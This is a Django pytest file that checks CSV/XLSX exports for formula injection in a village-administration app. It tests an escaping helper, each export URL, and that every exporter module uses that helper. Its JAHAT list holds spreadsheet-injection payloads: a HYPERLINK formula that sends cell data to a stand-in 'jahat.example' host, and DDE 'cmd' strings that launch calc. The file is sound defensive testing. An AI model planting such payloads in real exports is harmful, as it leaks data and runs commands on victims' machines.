"""Issue #17, item 6: formula injection in exports. One helper (sid.lib.sel) writes every
CSV/XLSX cell; a name starting with = + - @ (or a tab/CR) comes out as text, through each
export's real URL; and every module that writes a CSV or a workbook uses the helper."""

from __future__ import annotations

import csv
import datetime
import io
import re
from pathlib import Path

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from hub.models import DesaHub, RekamanHub
from penduduk.impor.nilai import teks
from penduduk.models import Penduduk
from perangkat.models import Perangkat
from sid.lib.sel import perlu_aman, sel_aman, sel_asli, sel_csv
from tests.factories import PendudukFactory, buat_rt
from tests.sinkron.conftest import hub_aktif, staf_hub  # noqa: F401

AKAR = Path(__file__).resolve().parents[2]
JAHAT = [
    '=HYPERLINK("http://jahat.example/?d="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


# --- the helper ------------------------------------------------------------------------------


@pytest.mark.parametrize("nilai", JAHAT)
def test_teks_berawalan_rumus_diberi_apostrof(nilai):
    assert sel_aman(nilai) == "'" + nilai
    assert sel_csv(nilai) == "'" + nilai
    assert sel_asli(sel_aman(nilai)) == nilai  # the import takes it off again


@pytest.mark.parametrize(
    "nilai", ["Budi Santoso", "-", "-5", "-1.5", "", "'biasa", "Jl. Melati - RT 1", "a=b"]
)
def test_teks_biasa_dan_angka_negatif_tidak_diubah(nilai):
    assert sel_aman(nilai) == nilai
    assert sel_asli(nilai) == nilai


def test_nilai_bukan_teks_tidak_diubah():
    tanggal = datetime.date(2026, 1, 2)
    assert sel_aman(-5) == -5 and sel_aman(None) is None and sel_aman(tanggal) == tanggal
    assert sel_csv(None) == "" and sel_csv(tanggal) == "2026-01-02" and sel_csv(1.5) == "1.5"
    assert not perlu_aman("") and perlu_aman("@x")


def test_impor_penduduk_melepas_apostrof_dari_ekspor():
    assert teks("'=Jl. Aneh") == "=Jl. Aneh"
    assert teks("'biasa") == "'biasa"


# --- every export, through its URL ------------------------------------------------------------


def _csv_sel(isi: bytes) -> list[str]:
    return [sel for baris in csv.reader(io.StringIO(isi.decode("utf-8-sig"))) for sel in baris]


def _xlsx_sel(isi: bytes) -> list:
    wb = openpyxl.load_workbook(io.BytesIO(isi))
    return [
        (sel.value, sel.data_type)
        for ws in wb.worksheets
        for baris in ws.iter_rows()
        for sel in baris
        if sel.value is not None
    ]


def _tidak_ada_rumus(sel: list[str]) -> None:
    for nilai in sel:
        assert not (isinstance(nilai, str) and perlu_aman(nilai)), nilai


@pytest.mark.django_db
def test_ekspor_perangkat_hub_lewat_url_meloloskan_nama_berumus(client, staf_hub):  # noqa: F811
    d = DesaHub.objects.create(
        kode="3201010001", nama="=Desa", kode_kecamatan="320101", kode_kabupaten="3201"
    )
    for i, nama in enumerate(JAHAT):
        RekamanHub.objects.create(
            desa=d,
            dataset="perangkat",
            kunci=f"k{i}",
            sha=str(i),
            data={"nama": nama, "jabatan": "@Kaur", "nomor_sk": "-1-SK", "jenis": "perangkat"},
        )
    client.force_login(staf_hub["kab"])
    r = client.get(reverse("hub:ekspor", args=["perangkat"]))
    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
    sel = _csv_sel(r.content)
    for nama in JAHAT:
        assert "'" + nama in sel
    assert "'@Kaur" in sel and "'-1-SK" in sel and "'=Desa" in sel
    _tidak_ada_rumus(sel)
    r = client.get(reverse("hub:ekspor", args=["penduduk"]))
    sel = _csv_sel(r.content)
    assert "'=Desa" in sel
    _tidak_ada_rumus(sel)


@pytest.fixture
def penduduk_berumus(desa):
    p = PendudukFactory(nama="Budi Santoso", wilayah=buat_rt())
    # Written around the forms (as an import from an old system could): the export must
    # still never hand a formula to a spreadsheet.
    Penduduk.objects.filter(pk=p.pk).update(
        nama=JAHAT[0], tempat_lahir=JAHAT[3], alamat_sekarang=JAHAT[1]
    )
    return p


@pytest.mark.django_db
@pytest.mark.parametrize("format_", ["csv", "xlsx", "xlsx-label"])
def test_ekspor_penduduk_lewat_url_meloloskan_teks_berumus(klien_admin, penduduk_berumus, format_):
    nama_url = {
        "csv": "admin:penduduk_penduduk_ekspor_csv",
        "xlsx": "admin:penduduk_penduduk_ekspor_xlsx",
        "xlsx-label": "admin:penduduk_penduduk_ekspor_xlsx_label",
    }[format_]
    r = klien_admin.get(reverse(nama_url))
    assert r.status_code == 200
    isi = b"".join(r.streaming_content)
    if format_ == "csv":
        sel = _csv_sel(isi)
    else:
        sel_tipe = _xlsx_sel(isi)
        assert all(tipe != "f" for _nilai, tipe in sel_tipe)
        sel = [nilai for nilai, _tipe in sel_tipe]
    for nilai in (JAHAT[0], JAHAT[3], JAHAT[1]):
        assert "'" + nilai in sel
    _tidak_ada_rumus(sel)


@pytest.mark.django_db
def test_buku_aparat_xlsx_lewat_url_meloloskan_nama_berumus(desa, buat_staf, admin_desa):
    from tests.surat import siapan

    siapan.siapkan_perangkat(admin_desa)
    Perangkat.objects.filter(penduduk__isnull=True).update(nama=JAHAT[0])
    Perangkat.objects.filter(penduduk__isnull=False).update(nama=JAHAT[0])
    klien = Client()
    klien.force_login(buat_staf("Kepala Desa", username="kades_sel"))
    tanggal = datetime.date.today().isoformat()
    r = klien.get(
        reverse("admin:perangkat_buku_aparat"),
        {"tanggal": tanggal, "unduh": "xlsx", "kertas": "A4"},
    )
    assert r.status_code == 200 and r["Content-Disposition"].endswith('.xlsx"')
    sel_tipe = _xlsx_sel(r.content)
    assert all(tipe != "f" for _nilai, tipe in sel_tipe)  # openpyxl would make "=…" a formula
    sel = [nilai for nilai, _tipe in sel_tipe]
    _tidak_ada_rumus(sel)


# --- every exporter uses the helper -----------------------------------------------------------

PENULIS = re.compile(r'csv\.writer\(|csv\.DictWriter\(|Workbook\(|WriteOnlyCell\(|t="inlineStr"')


def test_setiap_modul_yang_menulis_csv_atau_xlsx_memakai_sid_lib_sel():
    """A module that writes a CSV or a workbook imports the one escaping helper; a new
    exporter without it fails here (bench/ and tests/ are not exports)."""
    penulis = []
    for berkas in sorted(AKAR.rglob("*.py")):
        bagian = berkas.relative_to(AKAR).parts
        if bagian[0] in {".venv", "tests", "bench", "static", "var"} or "migrations" in bagian:
            continue
        if berkas == AKAR / "sid" / "lib" / "sel.py":
            continue
        isi = berkas.read_text(encoding="utf-8")
        if PENULIS.search(isi):
            penulis.append(str(berkas.relative_to(AKAR)))
            assert "from sid.lib.sel import" in isi, f"{berkas}: tulis sel lewat sid.lib.sel"
    # The exporters known today (a rename or a new one shows up here too).
    for wajib in (
        "hub/views.py",
        "penduduk/ekspor.py",
        "penduduk/laporan/keluaran.py",
        "perangkat/laporan.py",
        "keuangan/laporan.py",
        "keuangan/impor.py",
        "surat/laporan.py",
        "bantuan/admin.py",
    ):
        assert wajib in penulis
